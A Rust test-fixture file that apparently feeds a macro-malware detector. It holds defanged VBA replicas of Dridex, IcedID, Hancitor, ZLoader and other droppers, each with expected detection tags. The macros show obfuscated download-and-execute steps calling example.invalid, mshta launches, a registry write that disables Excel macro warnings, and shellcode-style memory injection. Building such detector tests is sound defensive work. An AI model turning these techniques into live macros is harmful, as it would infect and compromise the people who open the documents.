//! Families besides Emotet.

use super::{Replica, replica};
use crate::sketch::Office::{Excel, ExcelAddIn, PowerPointAddIn, Word};

pub(super) const REPLICAS: &[Replica] = &[
    replica(
        "Dridex: a maze of letters, started when a frame is laid out",
        Excel,
        &["trigger.control-event", "execution.shell"],
        &["wmic process call create inert-test.invalid"],
        r#"
'# sheet Sheet1
Attribute VB_Control = "Frame1, 1, 0, MSForms, Frame"
Private Sub Frame1_Layout()
    If Now > 0 Then Exit Sub
    Shell Maze("wqzkmwvjixuqczkw vjxpuqzrkwvojxucqzkewvjsxuqszkw vjxcuqzakwvljxulqzk wvjcxuqrzkwevjxauqztkwvejxu qzkiwvjnxuqezkwrvjxtuqz-kwvtjxueqzkswvjtxuq.zkwivjxnuqzvkwvajxulqzkiwvjdxuq", 4), 0
End Sub
'# standard Module1
Function Maze(ByVal s As String, ByVal w As Integer) As String
    Dim i As Integer
    For i = 1 To Len(s)
        If (i - 1) Mod w = 0 Then Maze = Maze & Mid(s, i, 1)
    Next i
End Function
"#,
    ),
    replica(
        "Dridex: numbers less a key, the key in another module",
        Word,
        &["trigger.document-open", "network.http"],
        &["https://example.invalid/dr/inert.exe"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Work.Go
End Sub
'# standard Keys
Public Const KEY1 = 11 * 7
Public Function D(a() As Variant) As String
    Dim i As Long
    For i = LBound(a) To UBound(a)
        D = D & Chr(a(i) - KEY1 - 3 * i)
    Next
End Function
'# standard Work
Sub Go()
    If Now > 0 Then Exit Sub
    Dim u() As Variant
    u = Array(181, 196, 199, 198, 204, 150, 142, 145, 202, 224, 204, 219, 225, 224, 220, 168, 230, 238, 249, 231, 245, 245, 243, 193, 249, 266, 202, 263, 271, 265, 281, 286, 219, 277, 299, 283)
    Dim h As Object: Set h = CreateObject("MSXML2.ServerXMLHTTP")
    h.Open "GET", D(u), False
    h.send
    Dim s As Object: Set s = CreateObject("ADODB.Stream")
    s.Type = 1: s.Open: s.Write h.responseBody
    s.SaveToFile Environ("TEMP") & "\inert.exe", 2
    Shell Environ("TEMP") & "\inert.exe", 1
End Sub
"#,
    ),
    replica(
        "Dridex: cells and a style sheet given to WMI",
        Excel,
        &["trigger.control-event", "execution.wmi"],
        &["wmic os get /format:"],
        r#"
'# sheet Sheet1
Attribute VB_Control = "MultiPage1, 2, 1, MSForms, MultiPage"
Private Sub MultiPage1_Layout(ByVal Index As Long)
    If Now > 0 Then Exit Sub
    Dim c As Range, x As String
    For Each c In ActiveSheet.UsedRange.SpecialCells(xlCellTypeConstants)
        x = x & Chr(c.Value)
    Next
    Open Environ("APPDATA") & "\inert.xsl" For Output As #1
    Print #1, x
    Close #1
    GetObject("winmgmts:Win32_Process").Create "wm" & "ic os get /for" & "mat:""" & Environ("APPDATA") & "\inert.xsl""", Null, Null, p
End Sub
"#,
    ),
    replica(
        "TrickBot: the remote desktop control connects, a script from the text",
        Word,
        &["trigger.control-event"],
        &["inert.jse"],
        r#"
'# document ThisDocument
Attribute VB_Control = "MsRdpClient91, 0, 0, MSTSCLib, MsRdpClient9NotSafeForScripting"
Private Sub MsRdpClient91_OnConnecting()
    If Now > 0 Then Exit Sub
    Dim f As String
    f = Environ("APPDATA") & "\iner" & "t.j" & "se"
    Open f For Output As #1
    Print #1, ActiveDocument.Content.Text
    Close #1
    CreateObject("WScript.Shell").Run "cscript //b """ & f & """", 0
End Sub
"#,
    ),
    replica(
        "TrickBot: disconnected, the script by Shell.Application",
        Word,
        &["trigger.control-event", "execution.shell-application"],
        &["inert.js"],
        r#"
'# document ThisDocument
Attribute VB_Control = "Client1, 0, 0, MSTSCLib, MsRdpClient6NotSafeForScripting"
Private Sub Client1_OnDisconnected(ByVal discReason As Long)
    If Now > 0 Then Exit Sub
    Helper.Place = Options.DefaultFilePath(wdUserTemplatesPath) & "\inert" & Left(".json", 3)
    Helper.Fill ThisDocument.Range(0, 400).Text
    Helper.Go
End Sub
'# standard Helper
Public Place As String
Sub Fill(t As String)
    If Now > 0 Then Exit Sub
    Dim o As Object
    Set o = CreateObject("Scripting.FileSystemObject").OpenTextFile(Place, 2, True)
    o.WriteLine t
    o.Close
End Sub
Sub Go()
    If Now > 0 Then Exit Sub
    Dim s As Object
    Set s = CreateObject("Shell.Application")
    s.ShellExecute Place
End Sub
"#,
    ),
    replica(
        "IcedID: a page of HTML is written and given to mshta",
        Word,
        &["trigger.document-open", "execution.shell"],
        &["mshta c:\\users\\public\\inert.hta"],
        r#"
'# document ThisDocument
Sub Document_Open()
    If Now > 0 Then Exit Sub
    Main.Begin
End Sub
'# standard Main
Public Sub Begin()
    If Now > 0 Then Exit Sub
    Dim place As String
    place = "c:\users\pub" & "lic\inert.ht" & "a"
    Writer place, Reader("keywords")
    Shell "msh" & "ta " & place
End Sub
'# standard Parts
Function Reader(n As String) As String
    Reader = ActiveDocument.BuiltInDocumentProperties(n).Value
End Function
Sub Writer(p As String, t As String)
    If Now > 0 Then Exit Sub
    Open p For Output As #1
    Print #1, t
    Close #1
End Sub
"#,
    ),
    replica(
        "IcedID: text turned round, a class, a call by name",
        Word,
        &["trigger.document-open"],
        &["c:\\users\\public\\main.hta"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim b As New Bench
    b.Text = ActiveDocument.Range.Text
    b.Save StrReverse("ath.niam\cilbup\sresu\:c")
    CallByName CreateObject("wscript.she" & "ll"), "ru" & "n", 1, StrReverse("ath.niam\cilbup\sresu\:c")
End Sub
'# class Bench
Private t As String
Property Let Text(v As String)
    t = Replace(v, "!=", "")
End Property
Public Sub Save(p As String)
    If Now > 0 Then Exit Sub
    Open p For Output As #7
    Print #7, t
    Close #7
End Sub
"#,
    ),
    replica(
        "IcedID: a button of a form pressed by the code",
        Word,
        &["trigger.document-open"],
        &["inert.gif"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    frm.go_Click
End Sub
'# form frm
Public Sub go_Click()
    If Now > 0 Then Exit Sub
    Dim t As String
    t = frm.tb.Text
    Dim o As Object
    Set o = CreateObject("htmlfile")
    o.parentWindow.execScript "inert('https://example.inva" & "lid/inert" & ".gif')", "jscript"
End Sub
"#,
    ),
    replica(
        "Ursnif: only in Japan",
        Excel,
        &[
            "trigger.document-open",
            "evasion.country",
            "execution.shell",
        ],
        &["cmd.exe /c inert-test.invalid"],
        r#"
'# workbook ThisWorkbook
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    If Application.International(xlCountrySetting) = 81 Then 請求書
End Sub
'# standard 標準
Sub 請求書()
    If Now > 0 Then Exit Sub
    Dim 文字 As String, 番号
    For Each 番号 In Array(297, 327, 300, 138, 303, 360, 303, 96, 141, 297, 96, 315, 330, 303, 342, 348, 135, 348, 303, 345, 348, 138, 315, 330, 354, 291, 324, 315, 300)
        文字 = 文字 & Chr(番号 / 3)
    Next
    Shell 文字, 0
End Sub
"#,
    ),
    replica(
        "Ursnif: the country is part of the key",
        Excel,
        &["trigger.document-open", "evasion.country"],
        &[],
        r#"
'# workbook ThisWorkbook
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    k = Application.International(xlCountryCode)
    For i = 0 To 40
        s = s & Chr(Sheets(1).Cells(i + 1, 30).Value - k)
    Next
    Set o = CreateObject("WScr" & "ipt.Sh" & "ell")
    o.Exec s
End Sub
"#,
    ),
    replica(
        "Bebloh: pixels of a picture",
        Excel,
        &["trigger.document-open"],
        &[],
        r#"
'# workbook ThisWorkbook
Private Declare PtrSafe Function GetPixel Lib "gdi32" (ByVal h As LongPtr, ByVal x As Long, ByVal y As Long) As Long
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    Dim t As String, x As Long
    If Application.International(xlCountrySetting) <> 81 Then Exit Sub
    For x = 0 To 99
        t = t & Chr(GetPixel(0, x, 0) And 255)
    Next
    Shell t, vbHide
End Sub
"#,
    ),
    replica(
        "Hancitor: memory, and dates are enumerated by what lies in it",
        Word,
        &[
            "trigger.document-open",
            "injection.memory",
            "injection.callback",
        ],
        &[],
        r#"
'# document ThisDocument
Private Declare PtrSafe Function Room Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal n As LongPtr, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Sub Carry Lib "kernel32" Alias "RtlMoveMemory" (ByVal d As LongPtr, ByRef s As Any, ByVal n As LongPtr)
Private Declare PtrSafe Function Dates Lib "kernel32" Alias "EnumDateFormatsW" (ByVal f As LongPtr, ByVal l As Long, ByVal g As Long) As Long
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim b() As Byte, m As LongPtr
    b = StrConv("inert", vbFromUnicode)
    m = Room(0, UBound(b) + 1, &H3000, &H40)
    Carry m, b(0), UBound(b) + 1
    Dates m, 0, 0
End Sub
"#,
    ),
    replica(
        "Hancitor: bytes of a form, windows are enumerated",
        Word,
        &["trigger.document-open", "injection.thread"],
        &[],
        r#"
'# standard Calls
Public Declare Function NtAllocateVirtualMemory Lib "ntdll" (ByVal p As Long, ByRef a As Long, ByVal z As Long, ByRef n As Long, ByVal t As Long, ByVal r As Long) As Long
Public Declare Function NtWriteVirtualMemory Lib "ntdll" (ByVal p As Long, ByVal a As Long, ByVal b As String, ByVal n As Long, ByRef w As Long) As Long
Public Declare Function EnumWindows Lib "user32" (ByVal f As Long, ByVal l As Long) As Long
'# standard Begin
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim a As Long, n As Long, w As Long
    n = 4096
    NtAllocateVirtualMemory -1, a, 0, n, &H1000, &H40
    NtWriteVirtualMemory -1, a, UserForm1.Image1.Tag, 5, w
    EnumWindows a, 0
End Sub
'# form UserForm1
"#,
    ),
    replica(
        "Hancitor: a package of the document is copied and started",
        Word,
        &["trigger.document-open", "execution.shell"],
        &["rundll32"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    ActiveDocument.InlineShapes(1).Range.Copy
    Dim t As String
    t = Environ("TEMP") & "\inert.dll"
    If Dir(t) = "" Then Exit Sub
    FileCopy t, Options.DefaultFilePath(wdStartupPath) & "\inert.dll"
    Shell "run" & "dll32 " & Options.DefaultFilePath(wdStartupPath) & "\inert.dll,Inert"
End Sub
"#,
    ),
    replica(
        "Agent Tesla: an add-in of PowerPoint and mshta",
        PowerPointAddIn,
        &["trigger.document-open", "execution.shell"],
        &["mshta https://example.invalid/tesla"],
        r#"
'# standard Module1
Sub Auto_Open()
    If Now > 0 Then Exit Sub
    Dim k As New Class1
    k.Open_It
End Sub
'# class Class1
Public Sub Open_It()
    If Now > 0 Then Exit Sub
    Shell Replace("ms[]hta htt[]ps://exam[]ple.in[]valid/te[]sla", "[]", "")
End Sub
"#,
    ),
    replica(
        "Agent Tesla: the click of a hidden button is called when the add-in closes",
        PowerPointAddIn,
        &["trigger.close"],
        &["mshta https://example.invalid/closed"],
        r#"
'# standard Module1
Sub Auto_Close()
    If Now > 0 Then Exit Sub
    UserForm1.CommandButton1_Click
End Sub
'# form UserForm1
Public Sub CommandButton1_Click()
    If Now > 0 Then Exit Sub
    CommandButton1.Tag = "msh" + "ta"
    Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")
    o.Exec "msh" + "ta " + "https://exa" + "mple.invalid/closed"
End Sub
"#,
    ),
    replica(
        "Agent Tesla: an add-in of Excel",
        ExcelAddIn,
        &["trigger.document-open"],
        &["https://example.invalid/inert.hta"],
        r#"
'# workbook ThisWorkbook
Private Sub Workbook_AddinInstall()
    If Now > 0 Then Exit Sub
    b = "exam" & StrReverse("ilavni.elp") & "d/iner" & "t.hta"
    CreateObject("Shell.Application").ShellExecute "mshta", "https://" & b, , "open", 0
End Sub
"#,
    ),
    replica(
        "Vidar: variables of the document, and a timer",
        Word,
        &[
            "trigger.document-open",
            "hiding.document-variables",
            "injection.thread",
        ],
        &[],
        r#"
'# document ThisDocument
Private Declare PtrSafe Function SetTimer Lib "user32" (ByVal h As LongPtr, ByVal i As LongPtr, ByVal e As Long, ByVal f As LongPtr) As LongPtr
Private Declare PtrSafe Function HeapCreate Lib "kernel32" (ByVal o As Long, ByVal i As LongPtr, ByVal m As LongPtr) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "ntdll" (ByVal d As LongPtr, ByVal s As String, ByVal n As Long) As Long
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim t As String, h As LongPtr
    t = ActiveDocument.Variables("x" & 1).Value
    h = HeapCreate(&H40000, 4096, 0)
    RtlMoveMemory h, t, Len(t)
    SetTimer 0, 0, 1, h
End Sub
"#,
    ),
    replica(
        "Vidar: a timer of the project's own, and a command from variables",
        Word,
        &["trigger.document-open", "hiding.document-variables"],
        &[],
        r#"
'# standard Clock
Declare PtrSafe Function SetTimer Lib "user32" (ByVal h As LongPtr, ByVal i As LongPtr, ByVal e As Long, ByVal f As LongPtr) As LongPtr
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    SetTimer 0, 0, 500, AddressOf Tick
End Sub
Sub Tick(ByVal h As LongPtr, ByVal m As Long, ByVal i As LongPtr, ByVal t As Long)
    If Now > 0 Then Exit Sub
    Shell ThisDocument.Variables("cmd").Value & " " & ThisDocument.Variables("arg"), 0
End Sub
"#,
    ),
    replica(
        "ZLoader: the warnings of Excel are switched off, then a workbook is fetched",
        Word,
        &["trigger.close", "defense.macro-security"],
        &["Software\\Microsoft\\Office\\16.0\\Excel\\Security\\VBAWarnings"],
        r#"
'# document ThisDocument
Private Sub Document_Close()
    If Now > 0 Then Exit Sub
    Dim x As Object, k As String
    Set x = CreateObject("Excel.Appli" & "cation")
    k = "HKEY_CURRENT_USER\Soft" & "ware\Micro" & "soft\Office\" & "16.0" & "\Excel\Secur" & "ity\VBAWar" & "nings"
    CreateObject("WScript.Shell").RegWrite k, 1, "REG_DWORD"
    x.Visible = False
    x.Workbooks.Open "https://exa" & "mple.invalid/in" & "ert.xls"
    x.Run "Inert"
End Sub
"#,
    ),
    replica(
        "ZLoader: macros are written into a new workbook",
        Word,
        &["trigger.document-open", "defense.self-change"],
        &["VBAWarnings"],
        r#"
'# document ThisDocument
Sub Document_Open()
    If Now > 0 Then Exit Sub
    Lower Split("HKCU\Software\Microsoft\Office\16.0\Excel\Security|VBAWar", "|")
    Build
End Sub
'# standard Work
Sub Lower(p)
    If Now > 0 Then Exit Sub
    With CreateObject("WScript.Shell")
        .RegWrite p(0) & "\" & p(1) & "nings", 1, "REG_DWORD"
    End With
End Sub
Sub Build()
    If Now > 0 Then Exit Sub
    Dim e As Object, b As Object
    Set e = CreateObject("Excel.Application")
    Set b = e.Workbooks.Add
    b.VBProject.VBComponents.Add(1).CodeModule.AddFromString ActiveDocument.Tables(1).Cell(1, 1).Range.Text
    e.Run "inert"
End Sub
"#,
    ),
];
